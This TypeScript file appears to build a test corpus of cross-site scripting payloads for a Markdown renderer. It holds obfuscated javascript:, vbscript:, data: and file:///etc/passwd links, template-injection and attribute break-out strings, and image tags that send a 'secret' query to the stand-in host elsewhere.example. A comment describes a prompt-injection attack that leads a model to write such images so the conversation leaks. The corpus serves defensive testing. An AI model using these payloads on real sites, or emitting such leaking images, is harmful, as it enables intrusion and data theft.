import { attackCode, elsewhere, xssMarkup } from './xss-markup.ts'

/**
 * Texts that try to run code, to load something or to change the page. If one works, it sets `globalThis.hacked`, opens
 * a dialog, or sends a request to `elsewhere.example`. Written for this project: each vector in several spellings and
 * places.
 */
export function xssCorpus(): string[] {
  return [...new Set([...xssMarkup(), ...links(), ...images(), ...templates(), ...brokenOut()])]
}

/** Forbidden addresses in every link syntax of Markdown. */
function links(): string[] {
  const addresses = [
    `javascript:${attackCode}`,
    `JAVASCRIPT:${attackCode}`,
    `jAvAsCrIpT:${attackCode}`,
    ` javascript:${attackCode}`,
    `\u0001javascript:${attackCode}`,
    `\u00a0javascript:${attackCode}`,
    `\u200bjavascript:${attackCode}`,
    `java\tscript:${attackCode}`,
    `java\nscript:${attackCode}`,
    `java\rscript:${attackCode}`,
    `javascript\t:${attackCode}`,
    `javascript\n:${attackCode}`,
    `java\\script:${attackCode}`,
    `javascript\\:${attackCode}`,
    `javascript&colon;${attackCode}`,
    `javascript&#58;${attackCode}`,
    `javascript&#x3A;${attackCode}`,
    `javascript&#0000058${attackCode}`,
    `&#106;avascript:${attackCode}`,
    `&#x6a;&#x61;vascript:${attackCode}`,
    `java&Tab;script:${attackCode}`,
    `java&#9;script:${attackCode}`,
    `java&NewLine;script:${attackCode}`,
    `java&#10;script:${attackCode}`,
    `javascript%3A${attackCode}`,
    `%6aavascript:${attackCode}`,
    `ｊavascript:${attackCode}`,
    `javascript://elsewhere.example/%0a${attackCode}`,
    `javascript:void(${attackCode})`,
    `view-source:javascript:${attackCode}`,
    `feed:javascript:${attackCode}`,
    `jar:javascript:${attackCode}!/`,
    `vbscript:${attackCode}`,
    `VBScript:msgbox(1)`,
    `livescript:${attackCode}`,
    `data:text/html,<script>${attackCode}</script>`,
    `data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==`,
    `DATA:image/svg+xml,<svg onload=${attackCode}>`,
    `data:,${attackCode}`,
    `blob:${elsewhere}/a`,
    `file:///etc/passwd`,
    `filesystem:${elsewhere}/a`,
    `about:blank`,
    `intent://elsewhere.example#Intent;end`,
    `//elsewhere.example/a`,
    `/\\elsewhere.example/a`,
    `\\\\elsewhere.example\\a`,
    `https:elsewhere.example/a`,
    `https:/elsewhere.example/a`,
    `https:\\\\elsewhere.example\\a`,
    `/\\/elsewhere.example/a`,
    `/\t/elsewhere.example/a`,
    `/&Tab;/elsewhere.example/a`,
    `///elsewhere.example/a`,
    `\u0001//elsewhere.example/a`,
    `//elsewhere.example:443\\@x.y/a`,
    `https://x.y@elsewhere.example/a`,
    `//javascript:${attackCode}`,
    `/javascript:${attackCode}`,
    `./javascript:${attackCode}`,
    `#javascript:${attackCode}`,
    `?javascript:${attackCode}`,
    `tel:javascript:${attackCode}`,
    `sms:javascript:${attackCode}`,
    `telnet:elsewhere.example`,
    `\u2028javascript:${attackCode}`,
    `\u000bjavascript:${attackCode}`,
    `&#0;javascript:${attackCode}`,
    `&#x1F;javascript:${attackCode}`,
    `&nbsp;javascript:${attackCode}`,
    `java&#x0A;script:${attackCode}`,
    `java\u00adscript:${attackCode}`,
    `javascript\uff1a${attackCode}`,
    `www.javascript:${attackCode}`,
    `www.elsewhere.example"onclick=${attackCode}`,
    `a@elsewhere.example?body=${attackCode}`,
    `data&#58;text/html,<script>${attackCode}</script>`,
    `data:text/html;charset=utf-7,+ADw-script+AD4-${attackCode}`,
    `vb\tscript:${attackCode}`,
    `vbscript&#58;${attackCode}`,
    `b\nlob:${elsewhere}/a`,
    `f&#9;ile:///etc/passwd`,
    `ms-word:ofe|u|${elsewhere}/a`,
    `steam://run/1`,
    `?a`,
    `#a`,
  ]
  const syntaxes: ((address: string) => string)[] = [
    (address) => `[a](${address})`,
    (address) => `[a](<${address}>)`,
    (address) => `[a](${address} "title")`,
    (address) => `![a](${address})`,
    (address) => `<${address}>`,
    (address) => `[a]: ${address}\n[a]`,
    (address) => address,
  ]
  return [
    ...addresses.flatMap((address, index) =>
      // Each address as a plain link, and in two of the other syntaxes.
      [0, 1 + (index % 6), 1 + ((index + 2) % 6)].map((place) => syntaxes[place]!(address)),
    ),
    `[**a** \`b\`](javascript:${attackCode})`,
    `[a [b](javascript:${attackCode})](javascript:${attackCode})`,
    `[![a](javascript:${attackCode})](javascript:${attackCode})`,
    `[a](https:javascript:${attackCode}) [a](javascript:https://x.y)`,
    `<javascript:${attackCode}@x.y>`,
    `[a](mailto:javascript:${attackCode})`,
  ]
}

/** An injected prompt makes a model write these, to send the conversation elsewhere. */
function images(): string[] {
  return [
    `![](${elsewhere}/?q=secret)`,
    `![a](${elsewhere}/a.png?q=secret "title")`,
    `![a](<${elsewhere}/a b?q=secret>)`,
    `[![a](${elsewhere}/a.png)](${elsewhere}/b)`,
    `![a][b]\n\n[b]: ${elsewhere}/a.png`,
    `![a](//elsewhere.example/a.png)`,
    `<img src="${elsewhere}/a.png?q=secret">`,
    `<img srcset="${elsewhere}/a.png 2x">`,
    `<picture><source srcset="${elsewhere}/a.png"><img></picture>`,
    `<audio autoplay src="${elsewhere}/a.mp3"></audio>`,
    `<input type="image" src="${elsewhere}/a.png">`,
    `<link rel="dns-prefetch" href="//elsewhere.example">`,
  ]
}

function templates(): string[] {
  return [
    `{{constructor.constructor("${attackCode}")()}}`,
    `{{$on.constructor("${attackCode}")()}}`,
    `{{{${attackCode}}}}`,
    `\${${attackCode}}`,
    `#{${attackCode}}`,
    `<%= ${attackCode} %>`,
    `[[${attackCode}]]`,
    `@{${attackCode}}`,
    `<div v-html="'<img src=x onerror=${attackCode}>'"></div>`,
    `<div ng-app ng-csp>{{$eval.constructor('${attackCode}')()}}</div>`,
    `<div x-data x-init="${attackCode}"></div>`,
    `<div hx-get="${elsewhere}/a" hx-trigger="load"></div>`,
    `{"__proto__":{"innerHTML":"<img src=x onerror=${attackCode}>"}}`,
  ]
}

/** Texts that try to break out of their place: attributes, cells, fences, headings. */
function brokenOut(): string[] {
  const out = [
    `" onmouseover="${attackCode}" x="`,
    `' onfocus='${attackCode}' autofocus x='`,
    `"><img src=x onerror=${attackCode}>`,
    `'><svg onload=${attackCode}>`,
    `--><img src=x onerror=${attackCode}>`,
    `]]><img src=x onerror=${attackCode}>`,
    `</script><script>${attackCode}</script>`,
    `</style><img src=x onerror=${attackCode}>`,
    `</textarea><img src=x onerror=${attackCode}>`,
    `</title><img src=x onerror=${attackCode}>`,
    `\u2028${attackCode}\u2029`,
    `');${attackCode};('`,
  ]
  const places: ((text: string) => string)[] = [
    (text) => text,
    (text) => `[a](https://x.y "${text}")`,
    (text) => `[a](https://x.y/${text})`,
    (text) => `\`\`\`${text}\ncode\n\`\`\``,
    (text) => `\`\`\`html\n${text}\n\`\`\``,
    (text) => `| ${text} |\n|---|\n| ${text} |`,
    (text) => `- ${text}\n  > # ${text}`,
    (text) => `**${text}** \`${text}\` ~~${text}~~`,
  ]
  return out.flatMap((text, index) => [
    text,
    ...[1, 2, 3].map((step) => places[(index + step * 2) % places.length]!(text)),
  ])
}
